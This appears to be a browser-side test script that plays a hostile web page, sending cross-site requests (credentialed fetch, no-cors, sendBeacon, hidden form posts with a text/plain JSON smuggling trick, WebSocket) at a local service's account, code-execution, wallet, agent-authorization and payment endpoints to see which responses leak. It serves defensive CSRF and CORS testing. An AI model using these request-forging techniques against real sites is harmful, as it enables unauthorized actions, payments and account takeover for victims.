// Attacks of a hostile web page. The script runs in a page of a real browser. It receives the victim's address, and
// also secrets that a real page does not have: a usage key, a triggers token and the secret of a payment. Returns each
// response that the page could read.
async (victim) => {
  const url = (path) => victim.base + path;
  const read = [];
  const attempt = async (path, options) => {
    try {
      const answer = await fetch(url(path), options);
      if (answer.type !== "opaque") read.push({ path, method: options.method, status: answer.status, text: await answer.text() });
    } catch {
      // The browser did not let the page read the response.
    }
  };
  const orders = [
    ["/core/v1/new_account", { account_name: "mallory", account_description: "" }, {}],
    ["/core/v1/svc_action", { code: "const main = () => 'ran';" }, { "X-Api-Key": victim.usageKey }],
    ["/_emulator/credit", { wallet_address: victim.wallet, cents: 100000 }, {}],
    ["/_emulator/faucet", { address: victim.wallet }, {}],
    ["/_emulator/clock", { advance: 1e6 }, {}],
    ["/_emulator/faults", { kind: "chain" }, {}],
    ["/_emulator/network", { policy: "record", file: "/tmp/recording.json" }, {}],
    ["/_emulator/reset", {}, {}],
    ["/_emulator/agents/approve", { challenge: victim.challenge, label: "mallory" }, {}],
    ["/agent/authorize", { challenge: victim.challenge, label: "mallory" }, {}],
    ["/agent/login", { email: "owner@localhost" }, {}],
    ["/api/triggers", { name: "mallory", kind: "webhook", action_code: "1", usage_api_key: victim.usageKey }, { Authorization: `Bearer ${victim.triggersToken}` }],
    [`/processor/v1/payment_intents/${victim.intent}/confirm`, { client_secret: victim.secret, method: "card" }, { Authorization: `Bearer ${victim.publishableKey}` }],
    [`/processor/pay/${victim.intent}?client_secret=${victim.secret}`, { method: "card" }, {}],
    ["/rpc", { jsonrpc: "2.0", id: 1, method: "evm_mine", params: [] }, {}],
    ["/rpc", { jsonrpc: "2.0", id: 1, method: "eth_accounts", params: [] }, {}],
  ];
  for (const [path, body, headers] of orders) {
    const text = JSON.stringify(body);
    // Send the request with its credential (with a preflight), as a simple request (without one), and without reading
    // the response.
    await attempt(path, { method: "POST", credentials: "include", headers: { "Content-Type": "application/json", ...headers }, body: text });
    await attempt(path, { method: "POST", credentials: "include", headers: { "Content-Type": "text/plain" }, body: text });
    await attempt(path, { method: "POST", credentials: "include", body: new URLSearchParams({ ...body, publishable: victim.publishableKey }) });
    await attempt(path, { method: "POST", mode: "no-cors", credentials: "include", body: text });
    navigator.sendBeacon(url(path), text);
  }
  for (const path of ["/_emulator/runs", "/_emulator/state", "/api/triggers", "/api/me", "/core/v1/list_groups?page_number=0&page_size=10", "/core/v1/billing/balance"]) {
    await attempt(path, { method: "GET", credentials: "include" });
    await attempt(path, { method: "GET", credentials: "include", headers: { "X-Api-Key": victim.usageKey, Authorization: `Bearer ${victim.triggersToken}` } });
  }
  await attempt(`/agent/authorize?challenge=${victim.challenge}`, { method: "GET", credentials: "include" });
  await attempt("/_emulator/snapshots/x", { method: "DELETE" });

  const loaded = (element) => new Promise((resolve) => { element.onload = element.onerror = resolve; document.body.append(element); });
  // Forms need no preflight. The frame receives the response.
  for (const [path, body] of orders) {
    for (const enctype of ["application/x-www-form-urlencoded", "text/plain"]) {
      for (const policy of ["", "no-referrer"]) {
        const frame = document.createElement("iframe");
        frame.name = `f${Math.random()}`;
        frame.referrerPolicy = policy;
        await loaded(frame);
        const form = document.createElement("form");
        Object.assign(form, { method: "post", action: url(path), target: frame.name, enctype });
        if (policy) form.rel = "noreferrer";
        const fields = enctype === "text/plain" ? { [JSON.stringify(body).slice(0, -1) + ',"x":"']: '"}' } : body;
        for (const [name, value] of Object.entries(fields)) {
          const input = document.createElement("input");
          Object.assign(input, { type: "hidden", name, value: String(value) });
          form.append(input);
        }
        document.body.append(form);
        const answered = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 2000); });
        form.submit();
        await answered;
        try {
          if (frame.contentDocument?.body.innerText) read.push({ path, method: "form", status: 200, text: frame.contentDocument.body.innerText });
        } catch { /* another origin */ }
        frame.remove();
      }
    }
  }
  const socket = await new Promise((resolve) => {
    const opened = new WebSocket(url("/rpc").replace("http", "ws"));
    opened.onopen = () => resolve("open");
    opened.onerror = () => resolve("refused");
  });
  if (socket === "open") read.push({ path: "/rpc", method: "WebSocket", status: 101, text: "" });
  return read;
}
